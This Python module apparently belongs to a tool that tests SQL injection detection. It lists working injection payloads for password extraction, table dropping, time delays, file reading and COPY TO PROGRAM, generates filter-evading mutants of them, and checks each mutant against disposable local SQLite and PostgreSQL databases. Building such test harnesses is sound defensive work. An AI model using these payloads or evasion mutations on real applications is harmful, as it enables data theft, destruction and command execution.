"""SQL injection: payloads, mutations, and what SQLite and PostgreSQL do with them.

A mutant lives where a database returns and changes for it what it did for the payload it
was made of. MySQL and SQL Server are not asked: their comments and operators are in the
vectors instead.
"""

from __future__ import annotations

import ctypes
import os
import re
import shutil
import sqlite3
import subprocess
import tempfile
import time
from collections.abc import Iterator
from ctypes.util import find_library
from pathlib import Path
from typing import Any

from text import PROSE, mixed

TEMPLATES = {
    "string": "SELECT id, name FROM users WHERE name = '{}' AND active = 1",
    "number": "SELECT id, name FROM users WHERE id = {} AND active = 1",
    "brackets": "SELECT id, name FROM users WHERE (name = '{}') AND active = 1",
    "like": "SELECT id, name FROM users WHERE name LIKE '%{}%'",
    "order": "SELECT id, name FROM users ORDER BY {}",
    "double": 'SELECT id, name FROM users WHERE name = "{}" AND active = 1',
    "update": "UPDATE users SET name = '{}' WHERE id = 1",
    "insert": "INSERT INTO orders VALUES (9, 1, '{}')",
}
HARMLESS = {"number": "7", "order": "id"}
SCHEMA = """
CREATE TABLE users (id int, name text, password text, active int);
INSERT INTO users VALUES (1, 'ann', 's3cret', 1), (2, 'bob', 'hunter2', 1), (3, 'eve', 'r00t', 0);
CREATE TABLE orders (id int, user_id int, note text);
INSERT INTO orders VALUES (1, 1, 'shoes');
"""
SLEEP = 0.05

BASES = [
    ("string", "' OR '1'='1"),
    ("string", "' OR 1=1--"),
    ("string", "' OR 1=1 -- -"),
    ("string", "ann'--"),
    ("string", "zed' OR 'a'='a"),
    ("string", "' OR ''='"),
    ("string", "zed' OR name LIKE '%a%' --"),
    ("string", "' OR 2>1 --"),
    ("string", "' OR id IS NOT NULL --"),
    ("string", "' OR EXISTS(SELECT 1 FROM users) --"),
    ("string", "' OR NOT 1=2 --"),
    ("string", "' OR name IN ('ann','bob') --"),
    ("string", "' OR id BETWEEN 1 AND 3 --"),
    ("string", "' OR length(password)>3 --"),
    ("string", "' OR CASE WHEN 1=1 THEN 1 ELSE 0 END = 1 --"),
    ("string", "' UNION SELECT id, password FROM users --"),
    ("string", "' UNION ALL SELECT 1, name || ':' || password FROM users --"),
    ("string", "' UNION SELECT NULL, sqlite_version() --"),
    ("string", "' UNION SELECT NULL, version() --"),
    ("string", "' UNION SELECT 1, sql FROM sqlite_master --"),
    (
        "string",
        "' UNION SELECT 1, table_name FROM information_schema.tables WHERE table_name='users' --",
    ),
    ("string", "' UNION SELECT 1, usename FROM pg_user --"),
    ("string", "' UNION SELECT 1, pg_read_file('/etc/hostname') --"),
    ("string", "' AND 1=CAST((SELECT password FROM users LIMIT 1) AS int) --"),
    ("string", "ann' AND (SELECT substr(password,1,1) FROM users WHERE id=1)='s"),
    ("string", "ann' AND ascii(substr((SELECT password FROM users LIMIT 1),1,1))=115 --"),
    ("string", "'; DELETE FROM users --"),
    ("string", "'; UPDATE users SET password='x' WHERE id=3 --"),
    ("string", "'; DROP TABLE orders --"),
    ("string", "'; INSERT INTO users VALUES (9,'mal','e',1) --"),
    ("string", "'; SELECT pg_sleep(0.05) --"),
    ("string", "' OR (SELECT 1 FROM pg_sleep(0.05)) IS NOT NULL --"),
    ("string", "'; COPY (SELECT 1) TO PROGRAM 'cat' --"),
    ("string", "'; CREATE TABLE mal(a int) --"),
    ("number", "1 OR 1=1"),
    ("number", "0 OR 1=1 --"),
    ("number", "0 OR id=3 --"),
    ("number", "-1 UNION SELECT 1, password FROM users WHERE 1=1"),
    ("number", "-1 UNION SELECT NULL, group_concat(name) FROM users --"),
    ("number", "-1 UNION SELECT NULL, string_agg(password, ',') FROM users --"),
    ("number", "1; DROP TABLE orders --"),
    ("number", "1 AND 1=(SELECT COUNT(*) FROM users WHERE name='ann')"),
    ("number", "(SELECT id FROM users WHERE name='bob')"),
    ("number", "1 ORDER BY 5--"),
    ("number", "1 AND 1=CAST((SELECT version()) AS int)"),
    ("brackets", "') OR ('1'='1"),
    ("brackets", "') OR 1=1 --"),
    ("brackets", "') UNION SELECT id, password FROM users --"),
    ("like", "zed%' OR name LIKE '%o"),
    ("like", "zed' UNION SELECT id, password FROM users --"),
    ("order", "(CASE WHEN (SELECT password FROM users WHERE id=1) LIKE 's%' THEN -id ELSE id END)"),
    ("order", "id; DELETE FROM orders"),
    ("double", '" OR "1"="1'),
    ("double", '" UNION SELECT id, password FROM users --'),
    ("update", "x', password='pwned' WHERE name='eve' --"),
    ("insert", "x'), (10, 1, (SELECT password FROM users WHERE id=1)) --"),
    ("insert", "' || (SELECT password FROM users WHERE id=1) || '"),
]

KEYWORDS = (  # noqa: SIM905 -- words
    "ALL AND AS BETWEEN BY CASE CAST COPY COUNT CREATE DELETE DROP ELSE END EXISTS FROM IN "
    "INSERT INTO IS LIKE LIMIT NOT NULL OR ORDER PROGRAM SELECT SET TABLE THEN TO UNION UPDATE "
    "VALUES WHEN WHERE"
).split()
WORD = re.compile(r"\b(?:" + "|".join(KEYWORDS) + r")\b")
LITERAL = re.compile(r"(?<=[=(, ])'(\w+)'(?=[ ,)]|$)")
TRUE = re.compile(r"'1'='1'?|'a'='a'?|\b1=1|\b2>1")


def _true(payload: str, quoted: str, bare: str) -> str:
    """The comparison that is always true, another one."""

    def other(found: re.Match[str]) -> str:
        text = found[0]
        if not text.startswith("'"):
            return bare
        # in a string the last quote is the template's
        return quoted if text.endswith("'") else quoted.removesuffix("'")

    return TRUE.sub(other, payload)


def mutants(context: str, payload: str) -> Iterator[tuple[str, str]]:
    """What a payload becomes, by the name of the mutation."""
    spaced = {
        "inline comments": "/**/",
        "comments with text": "/*shoes*/",
        "comments with a quote": "/*'*/",
        "tabs": "\t",
        "line ends": "\n",
        "CR LF": "\r\n",
        "form feeds": "\f",
        "vertical tabs": "\v",
        "line comments": "--x\n",
        "nested comments": "/*/**/*/",
        "many blanks": "   \n\t ",
        "no-break spaces": "\u00a0",
    }
    for name, blank in spaced.items():
        yield name, payload.replace(" ", blank)
    yield "mixed case", WORD.sub(lambda found: mixed(found[0]), payload)
    yield "lower case", WORD.sub(lambda found: found[0].lower(), payload)
    yield "mixed case, comments", WORD.sub(lambda f: mixed(f[0]), payload).replace(" ", "/**/")
    yield "no blanks", re.sub(r"(?<=[^\w]) | (?=[^\w])", "", payload)
    yield "brackets", re.sub(r"(?<=OR )([^-]+?)(?= --|--|$)", r"(\1)", payload)
    yield "brackets around columns", re.sub(r"SELECT (\w+)\b", r"SELECT(\1)", payload)
    yield (
        "brackets around the query",
        re.sub(r"UNION SELECT (.+?)(?= --|$)", r"UNION (SELECT \1)", payload),
    )
    yield "UNION ALL", payload.replace("UNION SELECT", "UNION ALL SELECT")
    yield "UNION DISTINCT", payload.replace("UNION SELECT", "UNION DISTINCT SELECT")
    yield "quoted names", re.sub(r"\b(users|password|orders)\b", r'"\1"', payload)
    yield "names in brackets", re.sub(r"\b(users|password|orders)\b", r"[\1]", payload)
    yield "names in backticks", re.sub(r"\b(users|password|orders)\b", r"`\1`", payload)
    yield "names with a schema", payload.replace("FROM users", "FROM public.users")
    yield "names with the main schema", payload.replace("FROM users", 'FROM"main".users')
    yield "concatenated", LITERAL.sub(lambda f: f"'{f[1][:1]}'||'{f[1][1:]}'", payload)
    yield "dollar quotes", LITERAL.sub(r"$$\1$$", payload)
    yield "tagged dollar quotes", LITERAL.sub(r"$a$\1$a$", payload)
    yield (
        "escape strings",
        LITERAL.sub(lambda f: "E'" + "".join(f"\\x{ord(c):02x}" for c in f[1]) + "'", payload),
    )
    yield (
        "unicode strings",
        LITERAL.sub(lambda f: "U&'" + "".join(f"\\{ord(c):04x}" for c in f[1]) + "'", payload),
    )
    yield (
        "characters by number",
        LITERAL.sub(lambda f: "||".join(f"chr({ord(c)})" for c in f[1]), payload),
    )
    yield (
        "characters by list",
        LITERAL.sub(lambda f: f"char({','.join(str(ord(c)) for c in f[1])})", payload),
    )
    yield "hex", LITERAL.sub(lambda f: f"CAST(x'{f[1].encode().hex()}' AS text)", payload)
    for name, quoted, bare in (
        ("true by another string", "'zz'='zz'", "'zz'='zz'"),
        ("true by order", "'b'>'a'", "3>2"),
        ("true by LIKE", "'ab' LIKE 'a%'", "'ab' LIKE 'a%'"),
        ("true by IN", "'a' IN ('a')  OR 'x'='x'", "2 IN (1,2)"),
        ("true by arithmetic", "2-1=1 AND 'c'='c'", "2-1=1"),
        ("true by concatenation", "'a'||'b'='ab'", "'a'||'b'='ab'"),
        ("true by NULL", "1 IS NOT NULL AND 'k'='k'", "1 IS NOT NULL"),
        ("true by a function", "abs(-1)=1 AND 'k'='k'", "abs(-1)=length('x')"),
        ("true by a number in hex", "'k'='k'", "0x1=1"),
        ("true by BETWEEN", "'b' BETWEEN 'a' AND 'c'", "2 BETWEEN 1 AND 3"),
        ("true by NOT", "'a'<>'b'", "NOT 1=2"),
        ("true by exponents", "1e0=1.0 AND 'k'='k'", "1e0=1.0"),
    ):
        yield name, _true(payload, quoted, bare)
    yield "an open comment at the end", re.sub(r" ?--.*$", "/*", payload)
    yield "a semicolon at the end", re.sub(r" ?--.*$", ";--", payload)
    yield "a semicolon and a comment", re.sub(r" ?--.*$", "; -- -", payload)
    yield "two statements' semicolons", payload.replace(";", ";;", 1)
    yield "a line end before the comment", re.sub(r" ?--", "\n--", payload, count=1)
    yield "prose after the comment", re.sub(r"--.*$", f"-- {PROSE}", payload)
    if context != "number":
        yield "prose before the quote", PROSE + payload
        yield "prose before, comments for blanks", PROSE + payload.replace(" ", "/**/")
    else:
        yield "a plus", "+" + payload
        yield "brackets around the number", re.sub(r"^-?\d+", r"(\g<0>)", payload)
        yield "an exponent", re.sub(r"^(-?\d+)", r"\1e0", payload)
        yield "a decimal point", re.sub(r"^(-?\d+)", r"\1.", payload)
        yield "nothing between", re.sub(r"^(-?\d+) ", r"\1", payload)


class Sqlite:
    """A database in memory for each payload."""

    name = f"SQLite {sqlite3.sqlite_version}"

    def effect(self, context: str, payload: str) -> Any:
        db = sqlite3.connect(":memory:")
        try:
            db.executescript(SCHEMA)
            statements = TEMPLATES[context].replace("{}", payload)
            rows = []
            try:
                # one by one, as drivers do that take several
                while statements.strip(" \t\r\n;"):
                    statement, statements = self._first(statements)
                    rows = db.execute(statement).fetchall()
            except sqlite3.Error as error:
                return ("error", str(error)) if "ORDER BY" in str(error) else None
            state = list(db.iterdump())
        finally:
            db.close()
        return rows, state

    @staticmethod
    def _first(text: str) -> tuple[str, str]:
        for at, char in enumerate(text):
            if char == ";" and sqlite3.complete_statement(text[: at + 1]):
                return text[: at + 1], text[at + 1 :]
        return text, ""

    def close(self) -> None:
        """Nothing is open."""


class Postgres:
    """A cluster of its own behind a socket in a temporary folder, gone with it."""

    def __init__(self) -> None:
        programs = sorted(Path("/usr/lib/postgresql").glob("*/bin"))
        library = find_library("pq")
        if not programs or library is None:
            raise SystemExit("evasion: no PostgreSQL: make setup")
        self.bin = programs[-1]
        self.folder = Path(tempfile.mkdtemp(prefix="doorward-pg-"))
        self.run_as: dict[str, Any] = {}
        if os.geteuid() == 0:  # which initdb refuses
            self.run_as = {"user": "postgres", "group": "postgres", "extra_groups": []}
            shutil.chown(self.folder, "postgres", "postgres")
        data = str(self.folder / "data")
        self._run(
            "initdb", "-D", data, "-U", "app", "-A", "trust", "-N", "--locale=C", "-E", "UTF8"
        )
        options = f"-k {self.folder} -c listen_addresses= -c fsync=off -c max_connections=5"
        self._run("pg_ctl", "-D", data, "-w", "-l", f"{self.folder}/log", "-o", options, "start")
        self.pq = ctypes.CDLL(library)
        for name in ("PQconnectdb", "PQexec"):
            getattr(self.pq, name).restype = ctypes.c_void_p
        for name in ("PQgetvalue", "PQresultErrorField", "PQcmdStatus"):
            getattr(self.pq, name).restype = ctypes.c_char_p
        self.db = ctypes.c_void_p(
            self.pq.PQconnectdb(f"host={self.folder} user=app dbname=postgres".encode())
        )
        self._ask(SCHEMA)
        version: Any = self._ask("SHOW server_version")
        self.name = f"PostgreSQL {version[1][0][0].split()[0]}"

    def _run(self, program: str, *arguments: str) -> None:
        subprocess.run(  # noqa: S603 -- PostgreSQL's own
            [self.bin / program, *arguments],
            check=True,
            stdout=subprocess.DEVNULL,
            cwd="/",
            **self.run_as,
        )

    def _ask(self, sql: str) -> tuple[str, Any]:
        # PQexec takes several statements, as the simple protocol of most drivers does
        result = ctypes.c_void_p(self.pq.PQexec(self.db, sql.encode()))
        try:
            if self.pq.PQresultStatus(result) not in (1, 2):
                said = self.pq.PQresultErrorField(result, ord("M"))
                return "error", (said or b"").decode()
            rows = [
                [
                    self.pq.PQgetvalue(result, row, column).decode()
                    for column in range(self.pq.PQnfields(result))
                ]
                for row in range(self.pq.PQntuples(result))
            ]
            return self.pq.PQcmdStatus(result).decode(), rows
        finally:
            self.pq.PQclear(result)

    def effect(self, context: str, payload: str) -> Any:
        self._ask("BEGIN")
        started = time.monotonic()
        rows = self._ask(TEMPLATES[context].replace("{}", payload))
        slept = time.monotonic() - started >= SLEEP
        if rows[0] == "error":
            self._ask("ROLLBACK")
            # what an application shows of an error gives data away
            return rows if "invalid input" in rows[1] or "ORDER BY" in rows[1] else None
        state: list[Any] = []
        if "DROP" not in payload.upper():
            state = [self._ask("TABLE users")[1], self._ask("TABLE orders")[1]]
        tables = self._ask("SELECT tablename FROM pg_tables WHERE schemaname = 'public'")[1]
        self._ask("ROLLBACK")
        return rows, state, tables, slept and "sleep" in payload

    def close(self) -> None:
        self.pq.PQfinish(self.db)
        self._run("pg_ctl", "-D", f"{self.folder}/data", "-m", "immediate", "stop")
        shutil.rmtree(self.folder)


class Live:
    """Both databases."""

    def __init__(self) -> None:
        self.databases: list[Any] = [Sqlite(), Postgres()]
        self.engines = [database.name for database in self.databases]
        self.kept: dict[tuple[int, str, str], Any] = {}

    def _effect(self, number: int, context: str, payload: str) -> Any:
        key = (number, context, payload)
        if key not in self.kept:
            self.kept[key] = self.databases[number].effect(context, payload)
        return self.kept[key]

    def check(self, cases: list[tuple[str, str, str]]) -> list[bool]:
        """Of each context, base and mutant: whether the mutant does what the base does."""
        return [self._one(*case) for case in cases]

    def _one(self, context: str, base: str, mutant: str) -> bool:
        if "\0" in mutant:
            return False
        for number in range(len(self.databases)):
            wanted = self._effect(number, context, base)
            harmless = self._effect(number, context, HARMLESS.get(context, "zed"))
            works = wanted is not None and wanted != harmless
            if works and self.databases[number].effect(context, mutant) == wanted:
                return True
        return False

    def close(self) -> None:
        for database in self.databases:
            database.close()
